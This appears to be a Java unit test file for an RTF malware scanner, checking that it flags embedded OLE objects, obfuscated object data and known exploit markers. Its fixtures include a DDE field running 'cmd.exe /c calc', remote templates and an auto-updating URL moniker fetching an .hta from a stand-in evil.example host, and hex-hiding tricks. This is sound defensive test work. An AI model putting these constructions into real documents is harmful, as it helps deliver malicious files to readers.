package org.tocsin.readers.files.rtf;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.tocsin.readers.files.Opened;
import org.tocsin.testkit.CompoundWriter;

class RtfOpenerTest {
    private static Opened open(String rtf) {
        return Opened.by(new RtfOpener(), rtf.getBytes(StandardCharsets.ISO_8859_1), "file.rtf");
    }

    /// An object in the old form, in hexadecimal.
    private static String object(String name, byte[] data) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(CompoundWriter.number(0x501));
        out.writeBytes(CompoundWriter.number(2));
        out.writeBytes(CompoundWriter.number(name.length() + 1));
        out.writeBytes((name + "\0").getBytes(StandardCharsets.ISO_8859_1));
        out.writeBytes(new byte[8]);
        out.writeBytes(CompoundWriter.number(data.length));
        out.writeBytes(data);
        return HexFormat.of().formatHex(out.toByteArray());
    }

    private static byte[] equation() {
        byte[] equation = new byte[200];
        byte[] records = {3, 1, 1, 3, 10, 10, 1, 8, 90, 90};
        System.arraycopy(records, 0, equation, 0, records.length);
        Arrays.fill(equation, 10, 10 + 48, (byte) 'A');
        return equation;
    }

    private static byte[] packaged() {
        byte[] whole =
                CompoundWriter.packaged("a.exe", "C:\\a.exe", "MZ".repeat(50).getBytes(StandardCharsets.ISO_8859_1));
        return Arrays.copyOfRange(whole, 4, whole.length);
    }

    @Test
    void takes_objects_out_however_their_digits_are_hidden() {
        String hex = object("Equation.3", equation());
        String head = hex.substring(0, 40);
        String rest = hex.substring(40);
        Map<String, Boolean> ways = new LinkedHashMap<>();
        ways.put("{\\rtf1{\\object\\objemb{\\*\\objdata " + hex + "}}}", false);
        ways.put("{\\rt{\\object{\\*\\objdata" + "\r\n" + hex.replaceAll("(.{2})", "$1 \t") + "}}}", false);
        ways.put("{\\rtf1{\\object{\\*\\objdata " + head + "{\\*\\foo bar ffffff}" + rest + "}}}", true);
        ways.put(
                "{\\rtf1{\\object{\\*\\objdata " + head + "{" + rest.substring(0, 20) + "}" + rest.substring(20)
                        + "}}}",
                true);
        ways.put("{\\rtf1{\\object{\\*\\objdata " + head + "\\bin0 " + rest + "\\par}}}", true);
        ways.put("{\\rtf1{\\object{\\*\\objdata " + head + "zqz!-_zqz!-_zqz!-_zqz" + rest + "}}}", true);
        ways.put("{\\rtf1{\\object{\\*\\objdata 4" + hex + "}}}", false);
        ways.put("{\\rtf1{\\object{\\*\\objdata {\\object{\\*\\objdata " + hex + "}}}}}", false);
        ways.put("{\\rtf1{\\object{\\*\\objdata123456789 " + hex, false);
        ways.forEach((rtf, hidden) -> {
            Opened opened = open(rtf);
            assertThat(opened.words()).as(rtf.substring(0, 60)).contains("object-equation", "equation-font-overflow");
            if (hidden) {
                assertThat(opened.words()).as(rtf.substring(0, 60)).contains("rtf-object-disguised");
            }
        });
    }

    @Test
    void takes_raw_bytes_of_an_object() {
        byte[] raw = HexFormat.of().parseHex(object("Package", packaged()));
        String rtf = "{\\rtf1{\\object{\\*\\objdata\\bin" + raw.length + " "
                + new String(raw, StandardCharsets.ISO_8859_1) + "}}}";
        Opened opened = open(rtf);
        assertThat(opened.words()).contains("packs-file", "packs-program");
        assertThat(opened.facts().children()).extracting(child -> child.name()).contains("a.exe");
    }

    @Test
    void takes_compound_files_out_of_objects() {
        byte[] inner = new CompoundWriter()
                .stream("\u0001Ole10Native", CompoundWriter.packaged("x.js", "x.js", new byte[40]))
                        .bytes();
        Opened opened = open("{\\rtf1{\\object\\objupdate{\\*\\objdata " + object("Word.Document.8", inner) + "}}}");
        assertThat(opened.words()).contains("object-updates-itself", "packs-program");
        assertThat(opened.facts().children()).extracting(child -> child.how()).contains("embedded");
    }

    @Test
    void tells_the_marks_of_known_exploits() {
        Map<String, String> marks = new LinkedHashMap<>();
        marks.put(
                "{\\rtf1{\\shp{\\sp{\\sn pFragments}{\\sv 1;1;" + "11111111ff030000".repeat(20) + "}}}}",
                "rtf-fragments-overflow");
        marks.put(
                "{\\rtf1{\\shp{\\sp{\\sn pFrag}{\\sn ments}{\\sn pFragments}{\\sv 9;2;" + "41".repeat(80) + "}}}}",
                "rtf-fragments-overflow");
        marks.put("{\\rtf1{\\*\\listoverridetable{\\listoverride\\listoverridecount25}}}", "rtf-list-override");
        marks.put("{\\rtf1{\\fonttbl{\\f0 A;}{\\f32768 B;}}}", "rtf-font-table");
        marks.put("{\\rtf1{\\object\\objautlink{\\*\\objclass otkloadr.WRAssembly.1}}}", "object-otkloadr");
        marks.put("{\\rtf1{\\object\\objocx{\\*\\objclass MSComctlLib.ListViewCtrl.2}}}", "object-mscomctl");
        marks.put("{\\rtf1{\\*\\template http://evil.example/a.dot}}", "remote-template");
        marks.put("{\\rtf1{\\field{\\*\\fldinst {DDE}{AUTO cmd.exe \"/c calc\"}}}}", "dde-auto");
        marks.put(
                "{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE \"http://evil.example/a.png\" \\\\d}}}", "field-fetches");
        marks.put("{\\rt\\par hello}", "rtf-broken-header");
        marks.forEach((rtf, word) -> assertThat(open(rtf).words()).as(rtf).contains(word));
    }

    @Test
    void tells_a_link_that_fetches_by_itself() {
        byte[] link = new byte[120];
        link[4] = 1;
        byte[] moniker = HexFormat.of().parseHex("E0C9EA79F9BACE118C8200AA004BA90B");
        System.arraycopy(moniker, 0, link, 20, 16);
        byte[] address = "http://evil.example/a.hta".getBytes(StandardCharsets.UTF_16LE);
        System.arraycopy(address, 0, link, 40, address.length);
        byte[] inner = new CompoundWriter().stream("\u0001Ole", link).bytes();
        Opened opened =
                open("{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata " + object("OLE2Link", inner) + "}}}");
        assertThat(opened.words()).contains("object-url-moniker", "object-linked", "object-updates-itself");
        assertThat(opened.all("Url")).contains("http://evil.example/a.hta");
    }

    @Test
    void leaves_an_ordinary_document_without_facts() {
        Opened opened = open("{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}{\\*\\generator Riched20}{\\info{\\title A}}"
                + "{\\field{\\*\\fldinst HYPERLINK \"https://example.org\"}{\\fldrslt here}}"
                + "{\\*\\listoverridetable{\\listoverride\\listid1\\listoverridecount0\\ls1}} Hello\\par}");
        assertThat(opened.words()).isEmpty();
        assertThat(opened.all("Url")).containsExactly("https://example.org");
    }

    @Test
    void survives_cuts_flips_and_nesting() {
        String rtf = "{\\rtf1{\\object{\\*\\objdata " + object("Equation.3", equation()) + "}}}";
        for (int length = 0; length < rtf.length(); length += 7) {
            open(rtf.substring(0, length));
        }
        byte[] bytes = rtf.getBytes(StandardCharsets.ISO_8859_1);
        for (int at = 0; at < bytes.length; at++) {
            byte[] flipped = bytes.clone();
            flipped[at] ^= 0x55;
            Opened.by(new RtfOpener(), flipped, "a");
        }
        assertThat(open("{\\rtf1" + "{".repeat(200_000)).words()).isEmpty();
    }
}
